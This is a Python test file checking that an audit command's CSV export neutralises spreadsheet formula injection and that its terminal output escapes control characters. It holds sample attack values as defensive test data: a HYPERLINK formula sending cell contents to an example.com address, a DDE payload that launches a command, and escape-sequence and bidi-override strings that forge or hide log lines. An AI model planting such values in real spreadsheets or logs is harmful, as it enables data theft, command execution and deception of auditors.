"""``zhengyin audit --csv``: what callers sent (an identifier in a URL, a reason, an actor's
name) never becomes a formula in the auditor's spreadsheet (CSV injection). A real SQLite
store written by the service's own event code, read by the real command."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from certs.events import event_row, write_events
from verifier.app.agency import open_store
from verifier.settings import Settings

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ('=HYPERLINK("https://example.com/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


def test_cells_that_would_be_formulas_are_text(tmp_path: Path) -> None:
    """Attack: a counter's key asks for /v1/certificates/=HYPERLINK(…) (its refusal is
    logged with the identifier as sent), an agency writes a reason starting with '=', an
    admin names a counter '@SUM(…)'. Exported, each cell starts with ' and is shown as the
    text it is; a cell that starts a formula otherwise is untouched."""
    settings = Settings(home=tmp_path)
    store = open_store(settings)
    rows = [event_row("access_denied", f"counter:{text}", identifier=text, reason=text,
                      detail={"error": "wrong_role"}) for text in FORMULAS]
    rows.append(event_row("access_denied", "counter:一号窗口", identifier="1.2.156.3005.2.x",
                          reason="举报材料待核实", detail={"error": "wrong_role"}))
    with store.transaction() as connection:
        write_events(connection, rows)
    env = {**os.environ, "ZHENGYIN_HOME": str(tmp_path),
           "ZHENGYIN_DATABASE_URL": settings.database}
    done = subprocess.run(
        [str(Path(sys.executable).parent / "zhengyin"), "audit", "--csv", "-"],
        capture_output=True, env=env, cwd=ROOT, timeout=120,
    )
    assert done.returncode == 0, done.stderr
    table = list(csv.reader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    header, body = table[0], table[1:]
    col = {name.split(" ")[-1]: k for k, name in enumerate(header)}
    assert len(body) == len(FORMULAS) + 1, table
    for row, text in zip(body, FORMULAS, strict=False):
        assert row[col["identifier"]] == "'" + text, row
        assert row[col["reason"]] == "'" + text, row
        assert row[col["actor"]] == f"counter:{text}", row  # starts with 'counter:'
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    plain = body[-1]
    assert (plain[col["identifier"]], plain[col["reason"]]) == (
        "1.2.156.3005.2.x", "举报材料待核实")
    assert plain[col["detail"]].startswith("{")


def test_the_lines_never_carry_control_characters(tmp_path: Path) -> None:
    """Attack: text callers sent (an identifier in a URL may hold %0D or %1B) printed as it
    is to the auditor's terminal: a carriage return or an escape sequence overwrites or
    hides what is shown of the event (or forges another), a bidirectional override reorders
    it. Each such character is shown as its escape, one event a line."""
    settings = Settings(home=tmp_path)
    store = open_store(settings)
    forged = "\r       1  2026-12-04T09:00:00+08:00  reinstated"
    hidden = ["x\x1b]0;title\x07", "y\x08\x08\x08", "z\u202e1.2.156", "w\n       2  fake"]
    with store.transaction() as connection:
        write_events(connection, [
            event_row("access_denied", "counter:一号窗口", identifier=text,
                      detail={"error": "wrong_role"}) for text in (forged, *hidden)])
    env = {**os.environ, "ZHENGYIN_HOME": str(tmp_path),
           "ZHENGYIN_DATABASE_URL": settings.database}
    done = subprocess.run(
        [str(Path(sys.executable).parent / "zhengyin"), "audit"],
        capture_output=True, env=env, cwd=ROOT, timeout=120,
    )
    assert done.returncode == 0, done.stderr
    text = done.stdout.decode("utf-8")
    lines = text.split("\n")
    assert lines[-1] == "" and len(lines) == 6, lines
    for line in lines[:-1]:
        assert line.isprintable(), repr(line)
        assert "access_denied" in line and "counter:一号窗口" in line, line
    assert "\\r       1  2026" in lines[0]
    assert "x\\x1b]0;title\\x07" in lines[1] and "z\\u202e1.2.156" in lines[3]
    assert "w\\n       2  fake" in lines[4]
